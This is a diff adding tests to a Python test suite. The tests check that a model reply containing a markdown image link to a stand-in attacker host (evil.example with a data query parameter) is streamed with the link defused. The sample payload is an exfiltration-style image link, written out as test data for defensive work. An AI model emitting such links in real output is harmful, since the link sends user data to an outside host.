@@ -104,3 +104,27 @@ def test_a_model_that_fails_for_good_ends_in_a_report_that_says_so(ask, turn):
     assert report["verdict"] == "inconclusive"
     assert "The model failed" in report["answer"]
     assert report["coverage"]["limits"]
+
+
+HOSTILE = "Look: ![x](https://evil.example/?d=1) and that is all."
+
+
+def test_a_link_of_a_model_with_tools_is_streamed_without_effect(ask):
+    events, _, _ = ask(Turn(text=HOSTILE))
+    said = "".join(event.text for event in events if isinstance(event, ModelText))
+    assert "that is all" in said
+    assert said.count("evil.example") == 1
+    assert "https://" not in said
+
+
+async def test_every_message_of_the_graph_is_streamed_without_effect(toolkit, monkeypatch):
+    with OpenAIServer([Turn(text=HOSTILE)]) as server:
+        monkeypatch.setenv("OPENAI_API_KEY", "made-up")
+        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
+        graph = build_graph(open_model("openai:local"), toolkit)
+        parts = [
+            str(message.text)
+            async for message, _ in graph.astream({"messages": [("user", "What is open?")]}, stream_mode="messages")
+        ]
+    assert "that is all" in "".join(parts)
+    assert "https://" not in "".join(parts)
